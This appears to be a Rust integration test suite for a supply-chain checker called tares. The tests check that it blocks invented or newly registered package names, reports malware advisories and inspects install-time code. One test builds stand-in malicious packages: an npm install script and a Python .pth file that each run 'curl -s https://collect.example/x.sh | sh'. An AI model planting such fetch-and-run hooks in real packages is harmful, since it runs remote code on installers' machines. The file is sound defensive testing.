//! Packages that do not exist, that appear, that nobody can tell of: against registries on the
//! loopback.

use crate::stage::{repo, tares_in};
use std::fmt::Write as _;
use tares_model::Ecosystem::{Cargo, Npm, PyPi};
use tares_testkit::registry::TestRelease;
use tares_testkit::{Behaviour, Program, TestPackage, TestRegistry, TestRepo};

fn asking(repo: &TestRepo, registry: &TestRegistry) -> Program {
    let program = tares_in(repo);
    let variables = registry.environment();
    variables
        .into_iter()
        .fold(program, |program, (name, value)| {
            program.variable(name, value)
        })
}

/// Lets the time pass for which answers are kept; what tares saw of names stays.
fn forget(program: &Program) {
    std::fs::remove_dir_all(program.cache().join("tares/registry")).unwrap();
}

/// A repository that has a requirement, and a change that adds two.
fn adding(names: &str) -> TestRepo {
    let repo = repo();
    repo.file("requirements.txt", "requests==2.32.0\n")
        .commit("Require");
    repo.write("requirements.txt", format!("requests==2.32.0\n{names}"));
    repo
}

#[test]
fn an_invented_package_blocks_with_its_evidence() {
    let registry = TestRegistry::start();
    registry.add(TestPackage::seasoned(PyPi, "flask"));
    let repo = adding("flask\nfast-json-tools\n");
    let program = asking(&repo, &registry);
    let answer = program.run(["check"]);
    answer
        .ends(1)
        .shows("block[package-absent]")
        .shows("requirements.txt:3")
        .shows("404")
        .shows("made-up name");
    assert!(!answer.stdout.contains("`flask`"), "{answer}");
    assert!(
        !registry.requests().iter().any(|path| path.contains("app")),
        "only what is new is asked: {:?}",
        registry.requests()
    );
}

#[test]
fn nothing_new_asks_nobody() {
    let registry = TestRegistry::start();
    let repo = adding("");
    repo.write("app.py", "import os\nimport requests\nimport local\n");
    repo.write("local.py", "x = 1\n");
    asking(&repo, &registry).run(["check"]).ends(0);
    assert_eq!(registry.requests(), Vec::<String>::new());
}

#[test]
fn offline_no_name_leaves_the_machine() {
    let registry = TestRegistry::start();
    let repo = adding("fast-json-tools\n");
    let program = asking(&repo, &registry);
    program
        .run(["check", "--offline"])
        .ends(0)
        .shows("review[package-unverified]")
        .shows("offline");
    repo.write("tares.toml", "[dependencies]\nask = \"never\"\n");
    program
        .run(["check", "--config", "tares.toml"])
        .shows("package-unverified");
    repo.write("tares.toml", "[dependencies]\nprivate = [\"fast-*\"]\n");
    let answer = program.run(["check", "--config", "tares.toml"]);
    assert!(!answer.stdout.contains("[package-"), "{answer}");
    assert_eq!(registry.requests(), Vec::<String>::new());
}

#[test]
fn places_that_tell_nothing_neither_block_nor_pass() {
    for behaviour in [
        Behaviour::NothingThere,
        Behaviour::SoftNotFound,
        Behaviour::CatchAll,
        Behaviour::Status(503),
        Behaviour::Status(401),
        Behaviour::Truncated,
    ] {
        let registry = TestRegistry::start();
        registry.behave(PyPi, behaviour.clone());
        let repo = adding("fast-json-tools\n");
        let answer = asking(&repo, &registry).run(["check"]);
        answer.ends(0).shows("review[package-unverified]");
        assert!(
            !answer.stdout.contains("package-absent"),
            "{behaviour:?}: {answer}"
        );
    }
}

#[test]
fn a_mirror_tells_what_exists_and_no_age() {
    let registry = TestRegistry::start();
    for ecosystem in [PyPi, Npm] {
        registry.behave(ecosystem, Behaviour::Mirror);
    }
    registry.add(TestPackage::new(PyPi, "brand-new").release("1.0.0", "2026-11-19T00:00:00Z"));
    let repo = adding("fast-json-tools\n");
    repo.write("tools.txt", "");
    let program = asking(&repo, &registry);
    program.run(["check"]).ends(1).shows("package-absent");
    let answer = program.run(["deps", "verify", "requests", "--ecosystem", "pypi"]);
    answer.ends(0).shows("exists").shows("unknown");
}

#[test]
fn a_slopsquat_from_its_invention_to_the_person_who_clears_it() {
    let registry = TestRegistry::start();
    let repo = adding("fast-json-tools==1.0.0\n");
    let program = asking(&repo, &registry);
    // A model invents the name: it is absent, and tares remembers.
    program
        .run(["check"])
        .ends(1)
        .shows("block[package-absent]");
    // Somebody registers it.
    registry.add(
        TestPackage::new(PyPi, "fast-json-tools")
            .release("0.9.0", "2019-01-01T00:00:00Z")
            .release("1.0.0", "2019-06-01T00:00:00Z"),
    );
    forget(&program);
    let verify = [
        "deps",
        "verify",
        "fast-json-tools@1.0.0",
        "--ecosystem",
        "pypi",
    ];
    program
        .run(["check"])
        .ends(1)
        .shows("block[package-appeared]")
        .shows("did not exist on");
    program.run(verify).ends(1).shows("package-appeared");
    // An old date does not clear it, a person does.
    let clear = [
        "deps",
        "clear",
        "Fast_JSON.tools",
        "--ecosystem",
        "pypi",
        "--by",
        "Ada",
    ];
    program.run(clear).ends(0).shows("cleared by Ada");
    let answer = program.run(["check"]);
    answer.ends(0);
    assert!(!answer.stdout.contains("package-appeared"), "{answer}");
    program.run(verify).ends(0).shows("exists");
    program
        .run([
            "deps",
            "clear",
            "requests",
            "--ecosystem",
            "pypi",
            "--by",
            "Ada",
        ])
        .ends(3)
        .complains("nothing to clear");
}

#[test]
fn verify_tells_by_its_exit_code() {
    let registry = TestRegistry::start();
    registry.add(TestPackage::seasoned(Npm, "@scope/kit"));
    let repo = repo();
    let program = asking(&repo, &registry);
    program
        .run(["deps", "verify", "@scope/kit", "--ecosystem", "npm"])
        .ends(0)
        .shows("pkg:npm/%40scope/kit");
    program
        .run(["deps", "verify", "left-padd", "--ecosystem", "npm"])
        .ends(1)
        .shows("does not exist");
    program
        .run([
            "deps",
            "verify",
            "left-pad",
            "--ecosystem",
            "npm",
            "--offline",
        ])
        .ends(4)
        .shows("offline");
    program
        .run(["deps", "verify", "left pad", "--ecosystem", "npm"])
        .ends(2);
    program
        .run(["deps", "verify", "left-pad", "--ecosystem", "atari"])
        .ends(2);
    let answer = program.run([
        "deps",
        "verify",
        "left-padd",
        "--ecosystem",
        "npm",
        "--format",
        "json",
    ]);
    let value: serde_json::Value = serde_json::from_str(&answer.stdout).unwrap();
    assert_eq!(value["purl"], "pkg:npm/left-padd");
    assert_eq!(value["existence"], "absent");
    assert_eq!(value["findings"][0]["rule"], "package-absent");
}

#[test]
fn the_table_names_every_package_with_its_facts() {
    let registry = TestRegistry::start();
    registry.add(TestPackage::new(Npm, "fresh").release("1.0.0", "2026-11-19T00:00:00Z"));
    let repo = repo();
    repo.write(
        "package.json",
        "{\"dependencies\": {\"left-pad\": \"^1.0.0\", \"gone-pad\": \"1.0.0\"}}",
    );
    let program = asking(&repo, &registry);
    program.run(["deps", "--offline"]).ends(0).shows("offline");
    program
        .run(["deps"])
        .ends(1)
        .shows("pkg:npm/left-pad")
        .shows("package-absent")
        .shows("package.json:1");
    program
        .run(["deps", "why", "left-pad"])
        .ends(0)
        .shows("package.json:1");
    program.run(["deps", "why", "nothing"]).ends(3);
    let answer = program.run(["deps", "--format", "json"]);
    let value: serde_json::Value = serde_json::from_str(&answer.stdout).unwrap();
    assert_eq!(value["packages"][0]["purl"], "pkg:npm/gone-pad@1.0.0");
}

#[test]
fn a_scan_asks_only_when_it_is_told_to() {
    let registry = TestRegistry::start();
    let repo = adding("fast-json-tools\n");
    let program = asking(&repo, &registry);
    let answer = program.run(["scan", "."]);
    assert!(!answer.stdout.contains("package-"), "{answer}");
    assert_eq!(registry.requests(), Vec::<String>::new());
    program
        .run(["scan", "--online", "."])
        .ends(1)
        .shows("package-absent");
}

#[test]
fn a_lock_file_of_100_mb_is_not_read() {
    let repo = repo();
    let entry = format!(
        "\"node_modules/made-up\": {{\"version\": \"1.0.0\", \"integrity\": \"sha512-{:0>86}==\"}},\n",
        1
    );
    let text = format!(
        "{{\"packages\": {{\n{}}}}}",
        entry.repeat((100 << 20) / entry.len())
    );
    repo.write("package-lock.json", text);
    let program = tares_in(&repo);
    program
        .run(["check", "--offline"])
        .ends(4)
        .shows("package-lock.json");
    program
        .run(["deps", "--offline"])
        .ends(4)
        .complains("package-lock.json");
    // What stands in it is not held: read as packages it would take far more than this much address
    // space, of which the program with its threads needs about half.
    if cfg!(target_os = "linux") {
        let shell = Program::new("/bin/sh")
            .folder(repo.path())
            .variable("MALLOC_ARENA_MAX", "1");
        let limited = "ulimit -v 700000; exec \"$0\" \"$@\"";
        let tares = env!("CARGO_BIN_EXE_tares");
        for ask in [&["deps", "--offline"][..], &["scan", "."]] {
            let arguments = ["-c", limited, tares]
                .into_iter()
                .chain(ask.iter().copied());
            shell.run(arguments).ends(4);
        }
    }
}

#[test]
fn a_lock_file_may_be_larger_than_what_people_write() {
    let repo = repo();
    let mut text = String::from("{\"packages\": {\n");
    for number in 0..60_000 {
        writeln!(
            text,
            "\"node_modules/made-up-{number}\": {{\"version\": \"1.0.0\", \"integrity\": \"sha512-{number:0>86}==\"}},"
        )
        .unwrap();
    }
    text.push_str("\"node_modules/stray\": {\"version\": \"1.0.0\", \"resolved\": \"http://stray.example/stray/-/stray-1.0.0.tgz\"}\n}}");
    assert!(text.len() > 8 << 20, "{}", text.len());
    repo.write("package-lock.json", text);
    let program = tares_in(&repo);
    program
        .run(["check", "--offline"])
        .ends(1)
        .shows("lock-entry-foreign")
        .shows("58001 new packages of this file were not asked about");
    program
        .run(["scan", "."])
        .ends(1)
        .shows("lock-entry-foreign");
    // Whoever wants smaller files than usual gets them, lock files too.
    repo.write("tares.toml", "[limits]\nmax-file-size = \"1MiB\"\n");
    program
        .run(["check", "--offline", "--config", "tares.toml"])
        .ends(4)
        .shows("more than the limit of 1048576");
}

#[test]
fn what_is_known_of_a_version_stands_in_the_table_and_in_the_verdict() {
    let registry = TestRegistry::start();
    registry.add(TestPackage::seasoned(Npm, "turned"));
    let repo = repo();
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(
        folder.path().join("malware.json"),
        r#"{"id":"MAL-2026-1","modified":"2026-11-10T00:00:00Z",
         "affected":[{"package":{"ecosystem":"npm","name":"turned"},"versions":["1.0.1"]}]}"#,
    )
    .unwrap();
    repo.write(
        "package.json",
        "{\"dependencies\": {\"turned\": \"1.0.1\", \"left-pad\": \"1.3.0\"}}",
    );
    let program = asking(&repo, &registry).variable("TARES_DATA_DIR", folder.path().join("data"));
    program
        .run(["deps", "--offline"])
        .ends(0)
        .shows("advisory data: none, `tares db update`");
    program
        .run(["db", "update", folder.path().to_str().unwrap()])
        .ends(0);
    program
        .run(["deps", "--offline"])
        .ends(1)
        .shows("malicious-package")
        .shows("advisory data: npm: 1 records");

    program
        .run(["deps", "verify", "turned@1.0.1", "--ecosystem", "npm"])
        .ends(1)
        .shows("known flaws or malware: malware")
        .shows("MAL-2026-1");
    let clean = program.run(["deps", "verify", "turned@1.0.0", "--ecosystem", "npm"]);
    clean.ends(0).shows("known flaws or malware: none");
    let answer = program.run(["deps", "--offline", "--format", "json"]);
    let value: serde_json::Value = serde_json::from_str(&answer.stdout).unwrap();
    assert_eq!(value["packages"][0]["known"], "none");
    assert_eq!(value["packages"][1]["known"], "malware");
    assert_eq!(value["advisory_data"].as_array().unwrap().len(), 1);
}

#[test]
fn verify_judges_code_that_runs_at_installation() {
    let registry = TestRegistry::start();
    let release = || TestRelease::new("1.0.0", "2020-01-01T00:00:00Z");
    let fetch = "curl -s https://collect.example/x.sh | sh";
    let script = format!("require('child_process').execSync('{fetch}');\n");
    let start = format!("import os; os.system('{fetch}')\n");
    registry.add(
        TestPackage::new(Npm, "bad-kit").with(release().runs_at_install().file("x.js", script)),
    );
    registry.add(TestPackage::new(PyPi, "bad-kit").with(release().file("bad_kit.pth", start)));
    let quiet = "console.log('thank you');\n";
    registry.add(
        TestPackage::new(Npm, "good-kit").with(release().runs_at_install().file("x.js", quiet)),
    );
    let repo = repo();
    let program = asking(&repo, &registry);
    let verify = |name: &str, ecosystem: &str| {
        let ask = [
            "deps",
            "verify",
            name,
            "--ecosystem",
            ecosystem,
            "--archive",
        ];
        program.run(ask)
    };
    for ecosystem in ["npm", "pypi"] {
        verify("bad-kit", ecosystem)
            .ends(0)
            .shows("review at installation")
            .shows("remote-code-runs");
    }
    // An archive that is not what the index says is nothing to vouch for.
    registry.add(TestPackage::new(Npm, "forged").with(release().wrong_digest()));
    verify("forged", "npm").ends(4).complains("not read");
    let answer = verify("good-kit", "npm");
    answer.ends(0);
    assert!(!answer.stdout.contains("at installation"), "{answer}");
}

/// What tares judges is byte for byte what the real clients take from the same registry.
#[test]
fn verify_reads_the_archive_that_the_real_clients_take() {
    let registry = TestRegistry::start();
    let release = || TestRelease::new("1.0.0", "2020-01-01T00:00:00Z");
    registry.add(TestPackage::new(PyPi, "kit").with(release().file("kit/__init__.py", "x = 1\n")));
    registry.add(TestPackage::new(Npm, "kit").with(release().file("index.js", "1\n")));
    registry.add(TestPackage::new(Cargo, "kit").with(release()));
    let (repo, folder) = (repo(), tempfile::tempdir().unwrap());
    let cargo_home = folder.path().join("cargo");
    std::fs::create_dir_all(&cargo_home).unwrap();
    std::fs::write(cargo_home.join("config.toml"), registry.cargo_config()).unwrap();
    let program = asking(&repo, &registry).variable("CARGO_HOME", &cargo_home);
    let judged = |ecosystem: &str| {
        let answer = program.run([
            "deps",
            "verify",
            "kit@1.0.0",
            "--ecosystem",
            ecosystem,
            "--archive",
            "--format",
            "json",
        ]);
        answer.ends(0);
        let value: serde_json::Value = serde_json::from_str(&answer.stdout).unwrap();
        (
            value["archive"]["digest"].as_str().unwrap().to_owned(),
            value["modules"].clone(),
        )
    };
    let client = |program: &str, arguments: &[&str]| {
        let mut client = std::process::Command::new(program);
        for (name, _) in std::env::vars() {
            let lower = name.to_lowercase();
            if ["pip_", "npm_config", "cargo_"]
                .iter()
                .any(|start| lower.starts_with(start))
            {
                client.env_remove(name);
            }
        }
        client
            .args(arguments)
            .current_dir(folder.path())
            .envs(registry.environment())
            .env("CARGO_HOME", &cargo_home);
        let output = client.output().expect("a client that the tests need");
        let text = String::from_utf8_lossy(&output.stdout).into_owned();
        assert!(
            output.status.success(),
            "{program}: {text}{}",
            String::from_utf8_lossy(&output.stderr)
        );
        text
    };
    let hash = |file: &str| {
        let said = client("python3", &["-m", "pip", "hash", file]);
        said.lines()
            .last()
            .unwrap()
            .trim_start_matches("--hash=")
            .to_owned()
    };
    client(
        "python3",
        &[
            "-m",
            "pip",
            "download",
            "--no-deps",
            "--no-cache-dir",
            "kit==1.0.0",
        ],
    );
    let (digest, modules) = judged("pypi");
    assert_eq!(digest, hash("kit-1.0.0-py3-none-any.whl"));
    assert_eq!(modules, serde_json::json!(["kit"]));
    client(
        "npm",
        &["pack", "kit@1.0.0", "--userconfig=none", "--cache=cache"],
    );
    assert_eq!(judged("npm").0, hash("kit-1.0.0.tgz"));
    std::fs::create_dir_all(folder.path().join("src")).unwrap();
    std::fs::write(folder.path().join("src/lib.rs"), "").unwrap();
    std::fs::write(
        folder.path().join("Cargo.toml"),
        "[package]\nname = \"p\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[dependencies]\nkit = \"1\"\n",
    )
    .unwrap();
    client("cargo", &["fetch"]);
    let lock = std::fs::read_to_string(folder.path().join("Cargo.lock")).unwrap();
    let digest = judged("cargo").0;
    let hex = digest.strip_prefix("sha256:").unwrap();
    assert!(
        lock.contains(&format!("checksum = \"{hex}\"")),
        "{digest}: {lock}"
    );
}
